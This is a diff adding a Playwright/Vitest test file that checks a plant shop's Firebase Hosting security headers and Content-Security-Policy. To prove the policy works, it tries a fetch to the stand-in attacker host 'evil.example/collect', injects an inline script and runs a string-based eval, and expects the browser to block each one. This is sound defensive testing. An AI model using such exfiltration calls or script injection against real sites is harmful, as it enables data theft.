@@ -1,0 +1,255 @@
+// Issue 7, part 4: the hosting headers of firebase.json, served by the Firebase Hosting emulator
+// from the production build (dist/). Every response carries them; the shop still works under the
+// Content-Security-Policy (sign-up, login, logout, the cart) with no violation at all; and the
+// policy does stop what it is there to stop (inline script, eval, framing, fetching another site).
+// The emulator serves firebase.json's policy plus the Auth emulator's origin (support/hosting.ts).
+import type { BrowserContext, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { baseURL, newPage } from './support';
+import { routeGoogleStandIns, signInThroughGooglePopup } from './support/google';
+import {
+  AUTH_EMULATOR_ORIGIN,
+  headersForEveryPath,
+  parseCsp,
+  productionConfig,
+  startHostingEmulator,
+  type HostingEmulator,
+} from './support/hosting';
+import {
+  addToCart,
+  logIn,
+  logOut,
+  shownCart,
+  signUp,
+  storedCart,
+  toast,
+} from './support/hostingShopper';
+
+let hosting: HostingEmulator;
+
+beforeAll(async () => {
+  hosting = await startHostingEmulator();
+}, 90_000);
+
+afterAll(async () => {
+  await hosting?.stop();
+});
+
+const EXPECTED_HEADERS = [
+  'content-security-policy',
+  'x-content-type-options',
+  'referrer-policy',
+  'x-frame-options',
+  'permissions-policy',
+  'cross-origin-opener-policy',
+  'cross-origin-resource-policy',
+  'strict-transport-security',
+];
+
+interface Violation {
+  readonly directive: string;
+  readonly blocked: string;
+  readonly page: string;
+}
+
+/** Records every CSP violation of every page of the context, whatever page it happens on. */
+async function recordViolations(context: BrowserContext): Promise<Violation[]> {
+  const violations: Violation[] = [];
+  await context.exposeFunction('__leafyCspViolation', (violation: Violation) => {
+    violations.push(violation);
+  });
+  // Init scripts are injected by the browser itself: the policy does not apply to them.
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      (window as unknown as { __leafyCspViolation: (v: Violation) => void }).__leafyCspViolation({
+        directive: event.effectiveDirective,
+        blocked: event.blockedURI,
+        page: location.pathname,
+      });
+    });
+  });
+  return violations;
+}
+
+async function hostedPage(options: Parameters<typeof newPage>[0] = {}) {
+  const page = await newPage({ ...options, context: { baseURL: `${hosting.url}/` } });
+  const violations = await recordViolations(page.context());
+  return { page, violations };
+}
+
+describe('firebase.json hosting headers, served by the hosting emulator', () => {
+  it.each(['/', '/cart', '/plant/1', '/no-such-page', '/plants.json', '/favicon.svg'])(
+    '%s carries every security header, as firebase.json sets it',
+    async (path) => {
+      const response = await fetch(`${hosting.url}${path}`);
+      await response.body?.cancel();
+      expect(response.status).toBe(200);
+      const served = headersForEveryPath(hosting.config);
+      for (const name of EXPECTED_HEADERS) {
+        expect(response.headers.get(name), name).toBe(served.get(name));
+      }
+    },
+  );
+
+  it('the entry script and stylesheet carry them too, with their own content types (nosniff)', async () => {
+    const html = await (await fetch(`${hosting.url}/`)).text();
+    const assets = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.(?:js|css))"/g)].map(
+      (match) => match[1]!,
+    );
+    expect(assets.length).toBeGreaterThanOrEqual(2);
+    for (const asset of assets) {
+      const response = await fetch(`${hosting.url}${asset}`);
+      await response.body?.cancel();
+      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(response.headers.get('content-type')).toMatch(
+        asset.endsWith('.js') ? /javascript/ : /text\/css/,
+      );
+    }
+  });
+
+  it('serves exactly the production policy plus the Auth emulator origin, and nothing else', async () => {
+    const response = await fetch(`${hosting.url}/`);
+    await response.body?.cancel();
+    const production = headersForEveryPath(productionConfig());
+    const served = parseCsp(response.headers.get('content-security-policy') ?? '');
+    const intended = parseCsp(production.get('content-security-policy') ?? '');
+    expect([...served.keys()]).toEqual([...intended.keys()]);
+    for (const [name, sources] of intended) {
+      const extra = ['connect-src', 'frame-src'].includes(name) ? [AUTH_EMULATOR_ORIGIN] : [];
+      expect(served.get(name), name).toEqual([...sources, ...extra]);
+    }
+    for (const name of EXPECTED_HEADERS.filter((header) => header !== 'content-security-policy')) {
+      expect(response.headers.get(name), name).toBe(production.get(name));
+    }
+  });
+
+  it('the production build has no inline script for the policy to allow', async () => {
+    const html = await (await fetch(`${hosting.url}/`)).text();
+    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
+    expect(scripts.length).toBeGreaterThan(0);
+    for (const [, attributes, body] of scripts) {
+      expect(attributes).toMatch(/\bsrc="\/assets\//);
+      expect(body!.trim()).toBe('');
+    }
+    expect(html).not.toMatch(/\son[a-z]+=/i);
+  });
+});
+
+describe('the shop under the policy (Chromium, hosting emulator, Auth emulator)', () => {
+  it('sign-up, logout, login and the cart all work, with no policy violation', async () => {
+    const { page, violations } = await hostedPage();
+
+    await page.goto('/');
+    await page.getByRole('heading', { name: 'Popular Plants' }).waitFor();
+    await page.getByTestId('preview-banner').filter({ hasText: 'running' }).waitFor();
+
+    const { email } = await signUp(page, 'csp');
+    await logOut(page);
+    await logIn(page, email);
+
+    await addToCart(page, 1);
+    await addToCart(page, 2);
+    await page.goto('/cart');
+    await page.getByRole('region', { name: 'Order Summary' }).waitFor();
+    const first = (await shownCart(page))[0]!;
+    await page.getByRole('button', { name: `Increase quantity of ${first.name}` }).click();
+    await expect.poll(() => shownCart(page)).toEqual(await storedCart(page));
+    expect((await shownCart(page))[0]?.quantity).toBe(2);
+
+    // A toast is styled (its stylesheet is inserted at run time and must be allowed).
+    await page.getByRole('button', { name: `Remove ${first.name} from cart` }).click();
+    const removed = toast(page, 'Removed from cart');
+    await removed.waitFor();
+    const background = await removed.evaluate((element) => {
+      const box = element.closest('[role="status"]')?.parentElement ?? element;
+      return getComputedStyle(box).backgroundColor;
+    });
+    expect(background).not.toBe('rgba(0, 0, 0, 0)');
+
+    // Profile: the avatar (the stock one) and the name show.
+    await page.goto('/profile');
+    await page.getByRole('button', { name: 'Edit Profile' }).waitFor();
+
+    expect(violations).toEqual([]);
+  });
+
+  it('the Google popup sign-in works under the policy (api.js and the helper frame allowed)', async () => {
+    const { page, violations } = await hostedPage();
+    // Offline, Google's api.js is a stand-in served at its real address (support/google.ts).
+    await routeGoogleStandIns(page.context());
+    await page.goto('/login');
+    const account = await signInThroughGooglePopup(page);
+    await toast(page, 'Logged in with Google successfully!').waitFor();
+    await page
+      .getByRole('button', { name: new RegExp(`${account.displayName}.*account menu`) })
+      .waitFor();
+    expect(violations).toEqual([]);
+  });
+
+  it('the policy stops inline script, eval and requests to other sites', async () => {
+    const { page, violations } = await hostedPage({
+      allowConsoleErrors: [/Content Security Policy/, /Failed to fetch/, /ERR_BLOCKED/],
+    });
+    await page.goto('/');
+    await page.getByRole('heading', { name: 'Popular Plants' }).waitFor();
+
+    await page.addScriptTag({ content: 'window.__inlineRan = true;' }).catch(() => undefined);
+    expect(await page.evaluate(() => 'inlineRan' in window || '__inlineRan' in window)).toBe(false);
+
+    const timer = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          try {
+            // A string handed to a timer is eval: blocked without 'unsafe-eval'.
+            (setTimeout as unknown as (code: string, ms: number) => number)(
+              'window.__timerRan = true',
+              0,
+            );
+          } catch (error) {
+            resolve(`threw ${(error as Error).name}`);
+            return;
+          }
+          setTimeout(() => resolve('__timerRan' in window ? 'ran' : 'blocked'), 50);
+        }),
+    );
+    expect(timer).not.toBe('ran');
+
+    const fetched = await page.evaluate(() =>
+      fetch('https://evil.example/collect').then(
+        () => 'reached',
+        (error: Error) => error.name,
+      ),
+    );
+    expect(fetched).toBe('TypeError');
+
+    await expect
+      .poll(() => violations.map((violation) => violation.directive).sort())
+      .toEqual(['connect-src', 'script-src', 'script-src-elem']);
+    expect(violations.find((v) => v.directive === 'connect-src')?.blocked).toMatch(
+      /^https:\/\/evil\.example/,
+    );
+  });
+
+  it('another site cannot frame the shop (frame-ancestors, X-Frame-Options)', async () => {
+    // The framing page is the plain static server of the other journeys: another origin.
+    const page: Page = await newPage({ allowConsoleErrors: [/frame-ancestors|X-Frame-Options/] });
+    await page.goto(`${baseURL()}/no-such-page`);
+    await page.evaluate((src) => {
+      const frame = document.createElement('iframe');
+      frame.src = src;
+      frame.title = 'framed shop';
+      document.body.append(frame);
+    }, `${hosting.url}/`);
+    await page.waitForTimeout(1500);
+    const framed = page.frames().find((frame) => frame !== page.mainFrame());
+    expect(framed).toBeDefined();
+    // The shop never ran inside the frame: the browser shows its own error page there.
+    expect(framed!.url()).not.toBe(`${hosting.url}/`);
+    expect(
+      await framed!
+        .locator('#root')
+        .count()
+        .catch(() => 0),
+    ).toBe(0);
+  });
+});
